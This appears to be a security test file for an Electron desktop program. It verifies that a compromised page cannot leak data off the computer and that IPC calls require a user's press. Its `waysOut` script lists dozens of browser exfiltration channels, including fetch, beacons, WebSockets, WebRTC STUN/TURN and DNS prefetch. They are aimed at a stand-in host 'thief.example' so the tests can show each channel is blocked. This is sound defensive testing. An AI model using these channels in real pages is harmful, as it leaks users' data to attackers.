import { createSocket } from "node:dgram";
import { readFile, writeFile } from "node:fs/promises";
import { createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import { type ElectronApplication, _electron as electron } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { listen } from "../src-main/platform/http/listen.ts";
import {
  callByPage,
  ownEnvironment,
  type Program,
  removeFolder,
  runtime,
  startProgram,
  userData,
} from "../tools/lab/program/program.ts";
import { catchOpened } from "./support/browser.ts";

/** The ways by which a hijacked page could send data out of this computer. */

let folder = "";
let program: Program;
/** An Electron without the program. A way that fails even there proves nothing about the program. */
let bare: ElectronApplication;
beforeAll(async () => {
  folder = await userData();
  program = await startProgram(folder);
  await program.page.getByRole("button", { name: "Try the demo airline" }).waitFor();
  await catchOpened(program.app);
  bare = await startBare();
});
afterAll(async () => {
  bare.process().kill("SIGKILL");
  await program.close();
  await removeFolder(folder);
});

async function startBare(): Promise<ElectronApplication> {
  const main = join(folder, "main.cjs");
  await writeFile(main, `require("electron").app.on("window-all-closed", () => undefined);`);
  await writeFile(join(folder, "package.json"), JSON.stringify({ main: "main.cjs" }));
  const { executable, args } = runtime();
  const flags = [...args.filter((each) => each.startsWith("--")), `--user-data-dir=${join(folder, "bare")}`];
  const env = ownEnvironment();
  return electron.launch({ executablePath: executable, args: [...flags, "-r", main, folder], env, timeout: 60_000 });
}

/** Runs code in a page with a Content Security Policy and no other restriction. */
const inBarePage = (code: string): Promise<void> =>
  bare.evaluate(async ({ app, BrowserWindow }, script) => {
    await app.whenReady();
    const window = new BrowserWindow({ show: false });
    window.webContents.setWindowOpenHandler(() => ({ action: "deny" }));
    // Navigation would end the page's script silently.
    window.webContents.on("will-navigate", (event) => event.preventDefault());
    const rule = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\"><body>";
    await window.loadURL(`data:text/html,${encodeURIComponent(rule)}`);
    await window.webContents.executeJavaScript(script).catch(() => undefined);
    window.destroy();
  }, code);

/** Makes a page ask servers for its address by UDP and TCP, as WebRTC does before it sends. */
const reachOut = (udpPort: number, tcpPort: number) => `(async () => {
  try {
    const turn = { urls: "turn:127.0.0.1:${tcpPort}?transport=tcp", username: "a", credential: "b" };
    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }, turn] });
    connection.createDataChannel("out");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 4000));
    connection.close();
  } catch {}
})()`;

test("WebRTC cannot send data out of the page, although a Content Security Policy alone would allow it", async () => {
  const heard = { udp: 0, tcp: 0 };
  const socket = createSocket("udp4");
  socket.on("message", () => {
    heard.udp++;
  });
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  const server = createTcpServer((connection) => {
    heard.tcp++;
    connection.on("error", () => undefined).destroy();
  });
  const script = reachOut(socket.address().port, await listen(server));
  await program.page.evaluate(script);
  expect(heard).toEqual({ udp: 0, tcp: 0 });
  await inBarePage(script);
  expect(heard.udp).toBeGreaterThan(0);
  expect(heard.tcp).toBeGreaterThan(0);
  socket.close();
  server.close();
});

/** Each way uses its own subdomain, which identifies a leak. */
const thiefHost = "thief.example";

/** Everything in a page of Chromium 130 that contacts a host without asking a person. */
const waysOut = `(async () => {
  const to = (way) => "https://" + way + ".${thiefHost}/";
  const attempt = (way, go) => { try { Promise.resolve(go(to(way))).catch(() => undefined); } catch {} };
  const element = (name, properties) => (url) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(properties(url))) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon", "manifest", "search"])
    attempt("link-" + rel, element("link", (href) => ({ rel, href, as: "fetch" })));
  for (const [name, key] of [["img", "src"], ["iframe", "src"], ["script", "src"], ["object", "data"], ["embed", "src"], ["audio", "src"], ["video", "poster"], ["track", "src"], ["source", "src"]])
    attempt(name, element(name, (url) => ({ [key]: url })));
  attempt("anchor-ping", (url) => element("a", () => ({ href: "#", ping: url }))(url).click());
  attempt("anchor-blank", (url) => element("a", () => ({ href: url, target: "_blank", rel: "opener" }))(url).click());
  attempt("anchor-named", (url) => element("a", () => ({ href: url, target: "other" }))(url).click());
  attempt("anchor-download", (url) => element("a", () => ({ href: url, download: "x" }))(url).click());
  attempt("form", (url) => element("form", () => ({ action: url, method: "post", target: "_blank" }))(url).submit());
  attempt("form-self", (url) => element("form", () => ({ action: url }))(url).submit());
  attempt("refresh", (url) => element("meta", () => ({ "http-equiv": "refresh", content: "0;url=" + url }))(url));
  attempt("open", (url) => void open(url));
  attempt("open-noopener", (url) => void open(url, "_blank", "noopener"));
  attempt("location", (url) => { location.href = url; });
  attempt("fetch", (url) => fetch(url, { mode: "no-cors" }));
  attempt("fetch-keepalive", (url) => fetch(url, { mode: "no-cors", keepalive: true }));
  attempt("beacon", (url) => navigator.sendBeacon(url, "x"));
  attempt("xhr", (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); });
  attempt("socket", (url) => new WebSocket(url.replace("https", "wss")));
  attempt("events", (url) => new EventSource(url));
  attempt("transport", (url) => new WebTransport(url).ready);
  attempt("worker", (url) => new Worker(url));
  attempt("shared-worker", (url) => new SharedWorker(url));
  attempt("service-worker", (url) => navigator.serviceWorker.register(url));
  attempt("import", (url) => import(url));
  attempt("font", (url) => new FontFace("x", "url(" + url + ")").load());
  attempt("style", (url) => new CSSStyleSheet().replace("@import url(" + url + ")"));
  attempt("sheet", (url) => { const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background-image: url(" + url + ") }"); document.adoptedStyleSheets.push(sheet); });
  attempt("speculation", (url) => {
    const script = element("script", () => ({ type: "speculationrules" }))(url);
    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url] }], prerender: [{ source: "list", urls: [url] }] });
  });
  for (const [way, server] of [["stun", "stun:"], ["turn", "turn:"], ["turn-tcp", "turn:"], ["turns", "turns:"]])
    attempt(way, async () => {
      const urls = server + way + ".${thiefHost}:3478" + (way === "turn-tcp" ? "?transport=tcp" : "");
      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: "a", credential: "b" }] });
      connection.createDataChannel("out");
      await connection.setLocalDescription(await connection.createOffer());
    });
  attempt("candidate", async (url) => {
    const connection = new RTCPeerConnection();
    connection.createDataChannel("out");
    const offer = await connection.createOffer();
    await connection.setLocalDescription(offer);
    const other = new RTCPeerConnection();
    await other.setRemoteDescription(offer);
    await other.setLocalDescription(await other.createAnswer());
    await connection.setRemoteDescription(other.localDescription);
    await connection.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 candidate.${thiefHost} 9 typ host", sdpMid: "0" });
  });
  await new Promise((resolve) => setTimeout(resolve, 4000));
})()`;

/** The ways by which the attacker's names reached Chromium's network service during `work`. */
async function lookedUp(app: ElectronApplication, work: () => Promise<unknown>): Promise<string[]> {
  const file = join(folder, "net.json");
  await app.evaluate(async ({ app: own, session }, path) => {
    await own.whenReady();
    await session.defaultSession.netLog.startLogging(path);
  }, file);
  await work();
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  return [...new Set((await readFile(file, "utf8")).match(/[a-z-]+(?=\.thief\.example)/g))].toSorted();
}

test("no host name is resolved for the page, because a name alone could carry data", async () => {
  expect(await lookedUp(program.app, () => program.page.evaluate(waysOut))).toEqual([]);
  // On a busy computer WebRTC may start later than the page waits.
  await expect
    .poll(() => lookedUp(bare, () => inBarePage(waysOut)), { timeout: 90_000 })
    .toEqual(expect.arrayContaining(["link-dns-prefetch", "stun", "turn-tcp", "turns"]));
  await program.page.reload();
  await program.page.getByRole("button", { name: "Try the demo airline" }).waitFor();
});

const call = (name: string, args: unknown, afterMs = 0) => callByPage(program.page, name, args, afterMs);
const opened = () => program.app.evaluate(() => Reflect.get(globalThis, "opened") as string[]);

test("the page opens nothing in the browser: not by itself, and after a press only addresses that the program has named", async () => {
  // The ways of the previous test and of this one would have opened it.
  expect(await opened()).toEqual([]);
  const { value: airline } = (await call("demo.open", undefined)) as { value: { baseUrl: string } };
  const own = new URL(airline.baseUrl).origin;
  const stolen = ["https://thief.example/?what=it+saw", `${own}/?what=it+saw`, `${own}.thief.example/`];
  for (const url of stolen)
    expect(await call("shell.openExternal", { url })).toMatchObject({ ok: false, error: { code: "not_opened" } });
  const withoutPress = await call("shell.openExternal", { url: own }, 6000);
  expect(withoutPress).toMatchObject({ ok: false, error: { code: "no_gesture" } });
  expect(await opened()).toEqual([]);
  expect(await call("shell.openExternal", { url: own })).toMatchObject({ ok: true });
  expect(await opened()).toEqual([`${own}/`]);
});

test("the program sends no request for the page without the pilot's press", async () => {
  const heard: string[] = [];
  const server = createTcpServer((connection) => {
    heard.push("asked");
    connection.on("error", () => undefined).destroy();
  });
  const port = await listen(server);
  const address = `http://127.0.0.1:${port}`;
  const { value: airline } = (await call("demo.open", undefined)) as { value: { id: string } };
  const asks: readonly (readonly [string, unknown])[] = [
    ["airlines.check", { address }],
    ["airlines.add", { name: "A", address }],
    ["airlines.testConnection", { airlineId: airline.id }],
    ["session.signIn", { airlineId: airline.id, username: "what it saw", password: "x" }],
    ["session.openBrowser", { airlineId: airline.id, throughPage: false }],
    ["session.reopenBrowser", undefined],
    ["settings.set", { simulatorPlace: { host: "127.0.0.1", port } }],
    ["settings.set", { simbriefPilot: "what it saw" }],
    ["settings.set", { freshWeather: true }],
    ["settings.set", { vatsim: true, ivao: true }],
    ["plans.fetch", { bidId: "1" }],
    ["flight.fetchRoute", undefined],
    ["weather.fetch", { icaos: ["WHAT", "ITSA"] }],
    ["updates.check", undefined],
  ];
  const answers = await Promise.all(asks.map(([name, args]) => call(name, args, 6000)));
  expect(answers).toEqual(answers.map(() => expect.objectContaining({ ok: false })));
  expect(answers).toMatchObject(answers.map(() => ({ error: { code: "no_gesture" } })));
  expect(heard).toEqual([]);
  await call("airlines.check", { address });
  expect(heard).not.toEqual([]);
  server.close();
});
